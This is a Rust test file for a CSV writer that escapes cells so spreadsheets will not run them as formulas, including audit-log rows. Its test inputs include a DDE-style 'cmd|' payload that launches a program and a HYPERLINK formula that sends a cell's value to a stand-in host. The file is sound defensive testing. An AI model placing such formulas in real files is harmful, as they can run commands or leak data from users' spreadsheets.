use proptest::prelude::*;

use super::*;

#[path = "../tests/support/csv_reader.rs"]
mod reader;

#[test]
fn fields_with_commas_quotes_or_line_breaks_are_quoted() {
    assert_eq!(field("plain"), "plain");
    assert_eq!(field("a,b"), "\"a,b\"");
    assert_eq!(field("say \"hi\""), "\"say \"\"hi\"\"\"");
    assert_eq!(field("two\nlines"), "\"two\nlines\"");
    assert_eq!(field(""), "");
}

#[test]
fn a_cell_a_spreadsheet_would_run_is_marked_and_quoted() {
    for (value, written) in [
        ("=1+1", "\"'=1+1\""),
        ("+1+1", "\"'+1+1\""),
        ("-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""),
        ("@SUM(1,2)", "\"'@SUM(1,2)\""),
        ("\t=1", "\"'\t=1\""),
        ("\r=1", "\"'\r=1\""),
        ("\n=1", "\"'\n=1\""),
        ("\u{FF1D}1+1", "\"'\u{FF1D}1+1\""),
        (
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Click\")",
            "\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"Click\"\")\"",
        ),
    ] {
        assert_eq!(field(value), written, "{value:?}");
    }
    // Inside a cell they are nothing: left as they are.
    assert_eq!(field("N-0001"), "N-0001");
    assert_eq!(field("a=b"), "a=b");
}

#[test]
fn a_cell_beginning_with_a_quote_gets_one_more_so_every_value_comes_back() {
    assert_eq!(field("'=1"), "\"''=1\"");
    assert_eq!(field("'plain"), "\"''plain\"");
    for value in ["=1", "'=1", "''=1", "'", "plain", "'plain", "-", "a'b"] {
        let rows = reader::read(&field(value));
        assert_eq!(reader::recover(&rows[0][0]), value);
    }
}

#[test]
fn an_audit_line_has_every_column_each_written_safely() {
    let r = AuditEntry {
        seq: 7,
        at: 0,
        actor: "DS-1".into(),
        device_id: Some("@D".into()),
        action: "consulted".into(),
        record_kind: "nominal".into(),
        record_id: "N-1,2".into(),
        nominal_id: Some("=N-1".into()),
    };
    assert_eq!(
        audit_line(&r),
        "7,1970-01-01T00:00:00+00:00,DS-1,\"'@D\",consulted,nominal,\"N-1,2\",\"'=N-1\""
    );
    let rows = reader::read(&format!("{AUDIT_HEADER}\r\n{}\r\n", audit_line(&r)));
    assert_eq!(rows[0].len(), rows[1].len());
    assert_eq!(reader::recover(&rows[1][3]), "@D");
}

proptest! {
    /// Any values, any line: no cell a spreadsheet reads runs, and each value comes back.
    #[test]
    fn no_cell_runs_and_every_value_comes_back(values in proptest::collection::vec("\\PC*|[=+\\-@\\t\\r\\n',\"]{1,4}.{0,8}", 1..6)) {
        let cells: Vec<&str> = values.iter().map(String::as_str).collect();
        let rows = reader::read(&format!("{}\r\n", line(&cells)));
        prop_assert_eq!(rows.len(), 1);
        prop_assert_eq!(rows[0].len(), values.len());
        for (read, value) in rows[0].iter().zip(&values) {
            prop_assert!(!reader::runs(read), "{read:?}");
            prop_assert_eq!(reader::recover(read), value.as_str());
        }
    }
}
